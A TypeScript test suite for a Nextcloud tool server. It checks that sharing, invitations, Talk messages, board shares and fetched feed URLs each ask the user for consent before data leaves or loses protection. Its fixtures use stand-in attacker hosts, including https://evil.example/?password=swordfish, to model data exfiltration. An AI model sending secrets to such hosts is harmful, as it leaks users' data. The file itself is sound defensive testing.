// What leaves the person's own data: a Yes counts for its recipient, object and kind, and what gets out of this
// Nextcloud, or gets less protected, is asked about each time.

import { filesOf, startStandIn } from "@holdpoint/nextcloud-stand-in"
import { afterEach, describe, expect, it } from "vitest"

import { reachKinds } from "../src/reach.ts"
import { table } from "../src/tools/table.ts"
import { agree, alice, type House, type HouseOptions, openHouse, textIn } from "./house.ts"

let house: House | undefined
afterEach(async () => {
  await house?.close()
  house = undefined
})

async function enter(options: HouseOptions = {}): Promise<House> {
  house = await openHouse(options)
  for (const name of ["a", "b"]) filesOf(house.standIn.world).put("alice", `/${name}.txt`, name)
  return house
}

/** The confirmations of one call, which has to succeed. */
async function asked(here: House, name: string, input: object): Promise<readonly string[]> {
  const before = here.prompts.length
  const result = await here.call(name, input)
  expect(result.isError, textIn(result)).toBeFalsy()
  return here.prompts.slice(before).flatMap(({ url, message }) => (url === undefined ? [message] : []))
}

async function output(here: House, name: string, input: object): Promise<Readonly<Record<string, unknown>>> {
  const result = await here.call(name, input)
  expect(result.isError, textIn(result)).toBeFalsy()
  return result.structuredContent as Readonly<Record<string, unknown>>
}

describe("a Yes to sharing", () => {
  it("to a link with a password does not count for a link to another file, nor for another link to the same", async () => {
    const here = await enter()
    expect(await asked(here, "nc_sharing_create_public_link", { path: "/a.txt", password: true })).toHaveLength(1)
    const [other] = await asked(here, "nc_sharing_create_public_link", { path: "/b.txt" })
    expect(other).toContain("“/b.txt” with everyone who has the link")
    expect(other).toContain("Everyone who has the link can open it")
    expect(await asked(here, "nc_sharing_create_public_link", { path: "/b.txt" })).toHaveLength(1)
  })

  it("counts for the same person, file and permissions, and for nothing else", async () => {
    const here = await enter()
    const share = (input: object) => asked(here, "nc_sharing_create_share", input)
    expect(await share({ path: "/a.txt", with: "bob" })).toHaveLength(1)
    expect(await share({ path: "/a.txt", with: "bob" }), "the same").toHaveLength(0)
    expect(await share({ path: "/b.txt", with: "bob" }), "another file").toHaveLength(1)
    expect(await share({ path: "/a.txt", with: "carol" }), "another person").toHaveLength(1)
    expect(await share({ path: "/a.txt", with: "bob", can: ["edit"] }), "another permission").toHaveLength(1)
    expect(await share({ path: "/a.txt", with: "bob", can: ["share"] })).toHaveLength(1)
    expect(await share({ path: "/a.txt", with: "bob", can: ["share"] }), "passing it on, again").toHaveLength(1)
    const stranger = { path: "/a.txt", with: "stranger@evil.example", kind: "email" }
    expect((await share(stranger))[0]).toContain("It leaves this Nextcloud by e-mail.")
    expect(await share(stranger), "the same address, again").toHaveLength(1)
  })

  it("does not count for another file that has got the same path", async () => {
    const here = await enter()
    await asked(here, "nc_sharing_create_share", { path: "/a.txt", with: "bob" })
    await output(here, "nc_files_move_resource", { source_path: "/a.txt", destination_path: "/c.txt" })
    await output(here, "nc_files_move_resource", { source_path: "/b.txt", destination_path: "/a.txt" })
    expect(await asked(here, "nc_sharing_create_share", { path: "/a.txt", with: "bob" })).toHaveLength(1)
  })

  it("does not count for taking a password, an expiry date or a hidden download away", async () => {
    const here = await enter()
    const link = { path: "/a.txt", password: true, expires: "2099-01-31", hide_download: true }
    const { id } = await output(here, "nc_sharing_create_public_link", link)
    const update = (input: object) => asked(here, "nc_sharing_update_share", { share_id: id, ...input })
    expect(await update({ password: "new" })).toHaveLength(1)
    for (const weaker of [{ password: "none" }, { expires: "2099-02-01" }, { expires: "" }, { hide_download: false }]) {
      const [question] = await update(weaker)
      expect(question, JSON.stringify(weaker)).toContain("It is less protected than before.")
    }
    expect(await update({ label: "x" }), "only its name").toHaveLength(0)
    expect(await update({ hide_download: true }), "more protected").toHaveLength(0)
  })

  it("is not replaced by the choice for everything, only by a choice for the tool", async () => {
    const here = await enter({ confirm: { "*": "never" } })
    expect(await asked(here, "nc_sharing_create_public_link", { path: "/a.txt" })).toHaveLength(1)
    expect(await asked(here, "nc_sharing_create_share", { path: "/a.txt", with: "bob" })).toHaveLength(0)
    await here.choices.set(alice, "confirm nc_sharing_create_public_link", "once")
    for (const _ of ["first", "again"])
      expect(await asked(here, "nc_sharing_create_public_link", { path: "/a.txt" })).toHaveLength(1)
    await here.choices.set(alice, "confirm nc_sharing_create_public_link", "never")
    expect(await asked(here, "nc_sharing_create_public_link", { path: "/a.txt" })).toHaveLength(0)
  })
})

describe("an invitation", () => {
  const event = { title: "Plans", start: "2026-11-20T10:30", end: "2026-11-20T11:30", timezone: "Europe/Berlin" }
  const attendees = [{ email: "stranger@evil.example" }]

  it("by e-mail is asked about each time, with its recipients and its text, and a No creates no event", async () => {
    let isYes = true
    const here = await enter({
      answer: async (prompt, there) =>
        prompt.url === undefined && !isYes ? { action: "decline" } : agree(prompt, there),
    })
    expect(await asked(here, "nc_calendar_create_event", event), "no one is invited").toHaveLength(0)
    const invite = { ...event, attendees, description: "The password is swordfish" }
    const [question] = await asked(here, "nc_calendar_create_event", invite)
    for (const part of ["“Plans”", "To: stranger@evil.example", "The password is swordfish"])
      expect(question).toContain(part)
    isYes = false
    const sent = here.standIn.requests.length
    expect((await here.call("nc_calendar_create_event", invite)).isError).toBe(true)
    expect(here.standIn.requests.slice(sent).filter((line) => line.startsWith("PUT"))).toEqual([])
  })

  it("is asked about for a change of an event, also of one that already has attendees", async () => {
    const here = await enter()
    const { id } = await output(here, "nc_calendar_create_event", event)
    const update = (input: object) => asked(here, "nc_calendar_update_event", { event_id: id, ...input })
    expect(await update({ title: "New plans" })).toHaveLength(0)
    expect((await update({ attendees }))[0]).toContain("To: stranger@evil.example")
    const [again] = await update({ description: "The password is swordfish" })
    expect(again).toContain("To: stranger@evil.example")
    expect(again).toContain("swordfish")
  })
})

interface Conversation {
  type: number
  readonly readers: (readonly [source: string, id: string])[]
}

/** A conversation that changes while the tests run; the recordings of Talk have only one. */
async function withConversation(conversation: Conversation): Promise<House> {
  const reply = (data: unknown) => ({
    status: 200,
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ ocs: { meta: { status: "ok", statuscode: 200 }, data } }),
  })
  const room = { token: "plans1", displayName: "Plans", lastActivity: 0 }
  const standIn = await startStandIn({
    seed: true,
    areas: [
      ({ method, path }) => {
        if (!path.includes("/room/plans1") && !path.includes("/chat/plans1")) return undefined
        if (path.endsWith("/participants") && method === "GET")
          return reply(conversation.readers.map(([actorType, actorId]) => ({ actorType, actorId, participantType: 3 })))
        if (path.includes("/chat/"))
          return reply({ id: 1, token: "plans1", actorId: "alice", timestamp: 1, message: "x", systemMessage: "" })
        return reply({ ...room, type: conversation.type })
      },
    ],
  })
  return enter({ standIn })
}

describe("Talk", () => {
  const isToEverybody = "Everyone who has the link can open it"

  it("asks each time before a conversation is open to guests, and once before a person is invited", async () => {
    const here = await enter()
    const start = (input: object) => asked(here, "nc_talk_create_conversation", input)
    expect(await start({ kind: "group", name: "Räum 🦊 测试" }), "no one is invited").toHaveLength(0)
    expect(await start({ kind: "one_to_one", invite: "bob" })).toHaveLength(1)
    expect(await start({ kind: "one_to_one", invite: "bob" })).toHaveLength(0)
    for (const _ of ["first", "again"]) {
      const before = here.prompts.length
      await here.call("nc_talk_create_conversation", { kind: "public", name: "Open" })
      expect(here.prompts.slice(before).map(({ message }) => message)).toEqual([expect.stringContaining(isToEverybody)])
    }
  })

  it("asks once before a person is added, and each time before an address or another server is", async () => {
    const here = await withConversation({ type: 2, readers: [["users", "alice"]] })
    const add = (input: object) => asked(here, "nc_talk_add_participant", { token: "plans1", ...input })
    expect((await add({ participant: "bob" }))[0]).toContain("“bob” to the conversation “Plans”")
    expect(await add({ participant: "bob" })).toHaveLength(0)
    expect(await add({ participant: "carol" })).toHaveLength(1)
    for (const source of ["emails", "federated_users", "circles"])
      for (const _ of ["first", "again"])
        expect((await add({ participant: "eve@evil.example", source }))[0]).toMatch(/leaves? this Nextcloud/)
  })

  it("asks once before it writes into a conversation, and each time where guests may read it", async () => {
    const conversation: Conversation = { type: 2, readers: [["users", "alice"]] }
    const here = await withConversation(conversation)
    const message = "The password is swordfish"
    const send = () => asked(here, "nc_talk_send_message", { token: "plans1", message })
    expect(await send(), "no one else reads it").toHaveLength(0)
    conversation.readers.push(["users", "bob"])
    const [question] = await send()
    for (const part of ["“Plans”", "It is read by bob.", `| ${message}`]) expect(question).toContain(part)
    expect(await send()).toHaveLength(0)
    conversation.readers.push(["users", "carol"])
    expect(await send(), "another person reads it").toHaveLength(1)
    expect(await send()).toHaveLength(0)
    conversation.readers.push(["guests", "f00"])
    for (const _ of ["first", "again"]) expect((await send())[0]).toContain("It can leave this Nextcloud.")
    conversation.type = 3
    for (const _ of ["first", "again"]) expect((await send())[0]).toContain(isToEverybody)
  })
})

describe("a Deck board", () => {
  it("is shared with a person after one Yes, and managed by them only after a Yes each time", async () => {
    const here = await enter()
    const share = (access: string) => asked(here, "nc_deck_share_board", { board_id: 2, id: "bob", access })
    const [question] = await share("read")
    for (const part of ["the board “Projekt 测试 🦊” with “bob”", "They may read everything"])
      expect(question).toContain(part)
    expect(await share("read")).toHaveLength(0)
    expect(await share("edit")).toHaveLength(1)
    for (const _ of ["first", "again"]) expect((await share("manage"))[0]).toContain("They can pass it on to others.")
  })
})

describe("a file", () => {
  it("is attached to a card after one Yes, and another file after another", async () => {
    const here = await enter()
    const attach = async (path: string) => {
      const before = here.prompts.length
      await here.call("nc_deck_attach_file", { card_id: 11, path })
      return here.prompts.slice(before).flatMap(({ url, message }) => (url === undefined ? [message] : []))
    }
    expect((await attach("/a.txt"))[0]).toContain("the file “/a.txt”")
    expect(await attach("/b.txt")).toHaveLength(1)
  })
})

describe("an address that Nextcloud fetches", () => {
  it("is shown each time before it leaves, with what is written in it", async () => {
    const here = await enter({
      answer: async (prompt, there) => (prompt.url === undefined ? { action: "decline" } : agree(prompt, there)),
    })
    for (const name of ["nc_news_add_feed", "nc_cookbook_import_recipe"]) {
      expect((await here.call(name, { url: "https://evil.example/?password=swordfish" })).isError).toBe(true)
      expect(here.prompts.at(-1)?.message).toContain("https://evil.example/?password=swordfish")
    }
    expect(here.standIn.requests.filter((line) => /feeds|import/.test(line))).toEqual([])
  })
})

describe("every tool that writes", () => {
  /** Only the person sees what these do. */
  const own = [
    ...["nc_notes_set_settings", "nc_files_set_favorite", "nc_files_delete_from_trash", "nc_files_empty_trash"],
    ...["nc_files_delete_comment", "nc_deck_delete_comment", "nc_calendar_create_calendar", "nc_deck_create_board"],
    ...["nc_contacts_create_addressbook", "nc_tables_create_table", "nc_collectives_create_collective"],
    ...["nc_cookbook_set_config", "nc_cookbook_reindex_recipes", "nc_talk_mark_as_read", "nc_mail_set_flags"],
    ...["nc_notifications_dismiss_notification", "nc_notifications_dismiss_all"],
    ...["nc_news_mark_items", "nc_news_mark_all_read", "nc_news_update_feed", "nc_news_remove_feed"],
    ...["nc_news_create_folder", "nc_news_rename_folder", "nc_news_delete_folder"],
  ]

  /** These write into a place. Others see it only if the person, or its owner, has opened the place to them. */
  const inPlaces = [
    ...["nc_notes_create_note", "nc_notes_update_note", "nc_notes_append_content", "nc_notes_delete_note"],
    ...["nc_files_write_file", "nc_files_append_file", "nc_files_upload_chunk", "nc_files_create_directory"],
    ...["nc_files_move_resource", "nc_files_copy_resource", "nc_files_delete_resource"],
    ...["nc_files_restore_from_trash", "nc_files_restore_version", "nc_files_set_tags"],
    ...["nc_calendar_update_calendar", "nc_calendar_move_event", "nc_tasks_create_task", "nc_tasks_update_task"],
    ...["nc_tasks_complete_task", "nc_tasks_move_task", "nc_tasks_delete_task", "nc_contacts_delete_addressbook"],
    ...["nc_contacts_create_contact", "nc_contacts_update_contact", "nc_contacts_delete_contact"],
    ...["nc_cookbook_create_recipe", "nc_cookbook_update_recipe", "nc_cookbook_delete_recipe"],
    ...["nc_tables_create_column", "nc_tables_insert_row", "nc_tables_update_row", "nc_tables_delete_row"],
    ...["nc_deck_update_board", "nc_deck_save_stack", "nc_deck_delete_stack", "nc_deck_save_label"],
    ...["nc_deck_delete_label", "nc_deck_create_card", "nc_deck_update_card", "nc_deck_move_card"],
    ...["nc_deck_delete_card", "nc_deck_set_card_label", "nc_deck_set_dependent_card", "nc_deck_remove_attachment"],
    ...["nc_collectives_restore_item", "nc_collectives_create_tag", "nc_collectives_create_page"],
    ...["nc_collectives_write_page", "nc_collectives_move_page", "nc_collectives_set_emoji"],
    "nc_collectives_set_page_tag",
  ]

  it("says how it reaches others, or is listed as one that does not", () => {
    const writing = table.filter(({ effect }) => effect !== "read")
    const silent = writing.filter(({ reach }) => reach === undefined).map(({ name }) => name)
    expect(table).toHaveLength(176)
    expect(silent.toSorted()).toEqual([...own, ...inPlaces].toSorted())
  })

  it("asks about a kind of reach that the policy names, and has words for the question", () => {
    for (const { name, reach, confirm } of table) {
      if (typeof reach !== "object") continue
      expect(confirm, name).toBeDefined()
      expect(
        reach.kinds.filter((kind) => !(kind in reachKinds)),
        name,
      ).toEqual([])
    }
  })
})
